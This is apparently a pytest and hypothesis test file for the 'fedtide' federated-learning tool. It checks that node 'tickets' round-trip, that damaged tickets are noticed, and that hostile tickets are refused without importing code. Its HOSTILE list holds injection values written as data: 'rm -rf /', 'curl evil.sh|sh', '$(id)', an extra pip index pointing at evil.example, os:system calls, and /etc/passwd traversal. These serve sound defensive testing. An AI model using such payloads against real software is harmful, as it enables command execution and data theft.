"""Tickets: what is written is read; what strangers write is refused in one line."""

import math
import tomllib
from contextlib import suppress
from datetime import UTC, datetime, timedelta
from typing import Any

import pytest
import tomli_w
from hypothesis import given
from hypothesis import strategies as st

from fedtide.config import from_dict
from fedtide.core.errors import FedtideError
from fedtide.site.tickets import AT_NODE, RowsAbout, Ticket, check_portable, study_for
from fedtide.tuning import between_clients
from helpers.examples import examples
from helpers.toys import toy

STUDY = study_for(toy("scaffold"))


def ticket(**changes: Any) -> Ticket:
    values: dict[str, Any] = {
        "scheme": 1,
        "node": "berlin",
        "clients": (0,),
        "registered": 3,
        "address": "fl.example.org:8300",
        "authority": "-----BEGIN CERTIFICATE-----\nAAAA\n-----END CERTIFICATE-----\n",
        "digest": "0123456789abcdef",
        "seed": 0,
        "made": datetime(2026, 11, 21, 12, tzinfo=UTC),
        "versions": {"fedtide": "0.1.0", "torch": "2.13.0"},
        "rows": RowsAbout(shape=(4,), dtype="float32", classes=3, source={"kind": "npz"}),
        "study": STUDY,
    }
    return Ticket(**values | changes)


def again(made: Ticket) -> Ticket:
    return Ticket.from_dict(tomllib.loads(made.to_toml()))


def sealed(**changes: Any) -> dict[str, Any]:
    """The content of a ticket with a seal that fits, as a stranger can make it."""
    values = tomllib.loads(ticket().to_toml()) | changes
    with suppress(ValueError):
        values["seal"] = Ticket.model_validate({key: value for key, value in values.items() if key != "seal"}).seal
    return values


def test_a_ticket_is_read_as_it_was_written(tmp_path):
    made = ticket()
    made.write(tmp_path / "berlin.ticket")
    assert Ticket.read(tmp_path / "berlin.ticket") == made
    assert made.experiment.method[0].algorithm == "scaffold"
    with pytest.raises(FedtideError, match="is there already"):
        made.write(tmp_path / "berlin.ticket")


def test_a_ticket_of_a_base_is_read_as_it_was_written():
    changes = pretrained() | base(package="llm") | {"rows": RowsAbout(**texts()["rows"])}
    made = ticket(**changes)
    assert again(made) == made
    assert made.experiment.model.path == AT_NODE
    assert "package" not in made.study["model"]


def test_a_ticket_holds_no_rows_and_no_place_of_them(tmp_path):
    study = from_dict(
        {
            "data": {"source": {"kind": "csv", "path": "secret-place.csv"}, "directory": "/secret"},
            "method": [{"name": "A", "algorithm": "fedavg"}],
        }
    )
    assert "secret" not in tomli_w.dumps(study_for(study))


names = st.text(st.sampled_from("abz019-"), min_size=1, max_size=12).filter(lambda s: s.strip("-") == s)
words = st.text(
    st.characters(min_codepoint=0xA1, max_codepoint=0x24F, exclude_characters="\xad") | st.sampled_from("ab \"'\\#="),
    max_size=12,
)


@examples(60)
@given(
    node=names,
    clients=st.lists(st.integers(0, 10_000_000), min_size=1, max_size=5, unique=True),
    seed=st.integers(0, 2**63 - 1),
    labels=st.lists(words, min_size=2, max_size=5, unique=True),
    columns=st.lists(words, min_size=1, max_size=5, unique=True),
    versions=st.dictionaries(words, st.sampled_from(["0.1.0", "2.13.0+cpu", "3.14.0rc1"]), max_size=4),
    made=st.datetimes(datetime(2000, 1, 1), datetime(2100, 1, 1), timezones=st.just(UTC)),
    port=st.integers(1, 65535),
    cuts=st.lists(st.floats(-1e9, 1e9), max_size=3, unique=True),
)
def test_every_ticket_comes_back(node, clients, seed, labels, columns, versions, made, port, cuts):
    source = {"kind": "csv", "label": labels[0], "cuts": sorted(cuts)}
    rows = RowsAbout(
        shape=(len(columns),), dtype="float64", classes=len(labels), labels=labels, columns=columns, source=source
    )
    whole = ticket(
        node=node, clients=clients, seed=seed, versions=versions, made=made, rows=rows, address=f"[::1]:{port}"
    )
    assert again(whole) == whole
    assert again(whole).seal == whole.seal


@examples(300)
@given(st.data())
def test_damaged_tickets_are_refused_or_the_same(data):
    text = bytearray(ticket().to_toml().encode())
    kind = data.draw(st.sampled_from(["flip", "cut", "insert", "swap"]))
    at = data.draw(st.integers(0, len(text) - 1))
    if kind == "flip":
        text[at] ^= data.draw(st.integers(1, 255))
    elif kind == "cut":
        del text[at : at + data.draw(st.integers(1, 200))]
    elif kind == "insert":
        text[at:at] = data.draw(st.binary(min_size=1, max_size=8))
    else:
        other = data.draw(st.integers(0, len(text) - 1))
        text[at], text[other] = text[other], text[at]
    try:
        found = Ticket.from_dict(tomllib.loads(text.decode()))
    except (FedtideError, UnicodeDecodeError, tomllib.TOMLDecodeError):
        pass
    else:
        assert found == ticket()


ROWS = {"shape": [4], "dtype": "float32", "classes": 3, "labels": [], "columns": [], "source": {"kind": "npz"}}
EVIL = {"kind": "python", "function": "os:system", "options": {"command": "touch /tmp/executed"}}


def rows(**changes: Any) -> dict[str, Any]:
    return {"rows": ROWS | changes}


def source(kind: Any, **settings: Any) -> dict[str, Any]:
    return rows(source={"kind": kind, **settings})


def study(**changes: Any) -> dict[str, Any]:
    return {"study": STUDY | changes}


def method(**changes: Any) -> dict[str, Any]:
    return study(method=[STUDY["method"][0] | changes])


def entries(**changes: Any) -> dict[str, Any]:
    tables = [{"name": "FedAvg", "algorithm": "fedavg"}, {"name": "other", "algorithm": "fedavg", **changes}]
    return study(method=[{"name": "tournament", "algorithm": "tournament", "entries": tables}])


def pretrained(**changes: Any) -> dict[str, Any]:
    return study(model={"kind": "transformer", **changes})


def base(**changes: Any) -> dict[str, Any]:
    return {"base": {"name": "m", "files": {"config.json": "0" * 64}, **changes}}


def texts(**settings: Any) -> dict[str, Any]:
    source = {"kind": "texts", "text": "text", "label": "topic", "context": 4, **settings}
    return rows(dtype="int64", padding=0, source=source)


def versions(fedtide: str) -> dict[str, Any]:
    return {"versions": {"fedtide": fedtide}}


HOSTILE: list[tuple[dict[str, Any], str]] = [
    ({"scheme": 2}, "scheme: found 2, but another version of fedtide made it; allowed: 1"),
    ({"scheme": True}, "scheme: found True"),
    ({"node": "../etc"}, "node: found '../etc'"),
    ({"node": "-berlin"}, "node: found '-berlin'"),
    ({"node": "Berlin"}, "node: found 'Berlin'"),
    ({"clients": []}, "clients: found"),
    ({"clients": [0, 0]}, "clients: found .* twice"),
    ({"clients": [-1]}, "clients"),
    ({"address": "fl.example.org"}, "address: found 'fl.example.org', allowed: HOST:PORT"),
    ({"address": "a b:1"}, "address"),
    ({"address": "-x:80"}, "address"),
    ({"address": "x:99999"}, "address"),
    ({"address": "x; rm -rf /:80"}, "address"),
    ({"authority": "A" * 30_000}, "authority: found 30000 characters"),
    ({"digest": "0123"}, "digest"),
    ({"digest": "../../../../../.."}, "digest"),
    ({"seed": -1}, "seed"),
    ({"seed": 2**70}, "seed"),
    ({"made": "yesterday"}, "made"),
    ({"made": "2026-01-01T00:00:00"}, "made: .*with its zone"),
    ({"versions": {"torch": "\x1b[2J"}}, "versions.torch: found .*, allowed: a version such as"),
    ({"versions": {"\x1b[2J": "1"}}, "control character"),
    (versions("9 --extra-index-url https://evil.example/simple"), "versions.fedtide: found '9 --ex"),
    *((versions(text), "versions.fedtide: found") for text in ("1;curl evil.sh|sh", "1$(id)", "-r", "1\n2", "")),
    ({"extra": 1}, "extra: unknown key"),
    ({"study": {}}, "study: method"),
    ({"study": []}, "study"),
    # descriptions of rows
    (rows(shape=[10**9, 10**9]), "100,000,000 numbers at most"),
    (rows(shape=[0]), "rows.shape"),
    (rows(shape=[1] * 9), "rows.shape"),
    (rows(dtype="object"), "rows.dtype"),
    (rows(classes=10**12), "rows.classes"),
    (rows(labels=["a"]), "1 names of 3 classes"),
    (rows(labels=["a", "a", "b"]), "twice"),
    (rows(columns=["a"]), "1 columns and rows of shape"),
    (source("python", function="os:system"), "rows.source.kind: found 'python', allowed: csv, npz"),
    (source("npz", path="/etc/passwd"), "rows.source: found 'path'"),
    (source("csv", features=["a"]), "rows.source: found 'features'"),
    (source("csv", label=5), "rows.source"),
    (source("csv", cuts=[2.0, 1.0]), "rows.source.*rising"),
    (source("csv", learned={"means": {"a": math.inf}}), "rows.source"),
    (source("csv", learned={"means": {"a": 0.0}, "spreads": {"a": 0.0}}), "rows.source.*greater than 0"),
    (source("csv", learned={"means": {}, "categories": {"a": [str(n) for n in range(101)]}}), "rows.source"),
    (source("csv", learned={"means": {}, "file": "/etc/passwd"}), "rows.source.*unknown key"),
    (rows(source={}), "rows.source.kind: found None"),
    (source(["csv"]), "rows.source.kind"),
    # code and files
    (method(algorithm="os:system"), "a registered name, because tickets bring no code"),
    (method(loss=EVIL), "loss.*names no code"),
    (method(cohort=EVIL), "cohort.*names no code"),
    (method(init_from="/etc/passwd"), "init_from"),
    (entries(algorithm="os:system"), "algorithm: found 'os:system', allowed: a registered name"),
    (entries(algorithm="tournament", entries=[]), "entries"),
    (entries(loss=EVIL), "loss.*names no code"),
    (entries(cohort=EVIL), "cohort.*names no code"),
    (entries(init_from="/etc/passwd"), "init_from: found a value, allowed: no such key in an entry"),
    (study(model=EVIL), "model.*names no code"),
    (study(data={"source": EVIL}), "data.source"),
    (study(metrics=["os:system"]), "metrics.*no such key in a ticket"),
    (study(shift={"who": EVIL}), "shift.*no such key in a ticket"),
    (study(devices=EVIL), "devices.*no such key"),
    (study(method=STUDY["method"] * 2), "method"),
    (study(data="python:os:system"), "data"),
    (study(data={"directory": "/etc"}), "data.directory"),
    (study(fleet={"kind": "ray", "address": "evil:1"}), "fleet.kind"),
    (study(rounds=-1), "study: rounds: found -1"),
    # bases
    (pretrained(path="/etc"), "study.model.path: found .*, allowed: no such key in a ticket"),
    (pretrained(cache_mb=10**9), "study.model.cache_mb: found .*, allowed: no such key in a ticket"),
    (pretrained(package="os"), "study.model.package: found .*, allowed: no such key in a ticket"),
    (study(model="transformer:/etc"), "study.model: found .*, allowed: no file and no package"),
    (pretrained(adapters=EVIL), "study: model.adapters"),
    (pretrained(), "base: found 'none', allowed: one if the study's model is a 'transformer'"),
    (base(), "base: found 'm', allowed: one if the study's model is a 'transformer'"),
    (pretrained() | base(package="os.path"), "base.package: found 'os.path'"),
    (pretrained() | base(package="../evil"), "base.package"),
    (pretrained() | base(files={"../../etc/passwd": "0" * 64}), "base.files"),
    (pretrained() | base(files={"config.json": "0" * 63}), "base.files.config.json: found"),
    (pretrained() | base(files={}), "base.files"),
    (pretrained() | base(name="\x1b[2J"), "base.name.*control character"),
    (pretrained() | base(path="/etc"), "base.path: unknown key"),
    *((pretrained() | base() | texts(**{key: "/etc"}), f"rows.source: found '{key}'") for key in ("path", "tokenizer")),
    (pretrained() | base() | texts(package="os"), "rows.source: found 'package'"),
    (
        pretrained() | base() | texts(context=10**9),
        "the shape of rows of texts, allowed: tokens of the source's context",
    ),
    (base() | texts(), "base: found 'm'"),
    (texts(), "rows: found 'texts', allowed: other rows"),
]


@pytest.mark.parametrize(("changes", "said"), HOSTILE)
def test_hostile_tickets_are_refused_and_bring_no_code(changes, said, monkeypatch):
    def never(name: str, *args: Any) -> Any:
        assert name == "fedtide.tuning.between_clients", "something was imported"
        return between_clients

    monkeypatch.setattr("fedtide.fields.user_code.importlib.import_module", never)
    with pytest.raises(FedtideError, match=said):
        Ticket.from_dict(sealed(**changes))


@pytest.mark.parametrize(
    "content",
    [
        b"",
        b"\xff\xfe\x00",
        b"a = [",
        b"x" * 3_000_000,
        b"n = " + b"9" * 100_000,
        bytes(range(256)),
        b"scheme = 1\nstudy = " + b"[" * 100_000,
        b"scheme = 1\nstudy." + b".".join([b"a"] * 3000) + b" = 1\n",
    ],
    ids=range(8),
)
def test_a_file_that_is_no_ticket_is_refused(tmp_path, content):
    (tmp_path / "x.ticket").write_bytes(content)
    with pytest.raises(FedtideError, match=r"x\.ticket: ") as said:
        Ticket.read(tmp_path / "x.ticket")
    assert "\n" not in str(said.value)


def test_a_changed_ticket_is_noticed():
    values = tomllib.loads(ticket().to_toml())
    values["address"] = "evil.example.org:8300"
    with pytest.raises(FedtideError, match=r"seal: .*damaged or changed"):
        Ticket.from_dict(values)


@pytest.mark.parametrize("days", [-1, 4000])
def test_a_clock_that_is_wrong_is_named(days):
    with pytest.raises(FedtideError, match="set the clock"):
        ticket().check_clock(ticket().made + timedelta(days=days))


def test_studies_that_name_files_are_not_deployed():
    study = toy("fedavg", {"loss": {"kind": "python", "function": "mine:loss"}})
    with pytest.raises(FedtideError, match="because tickets bring neither to nodes"):
        check_portable(study, study.method[0])
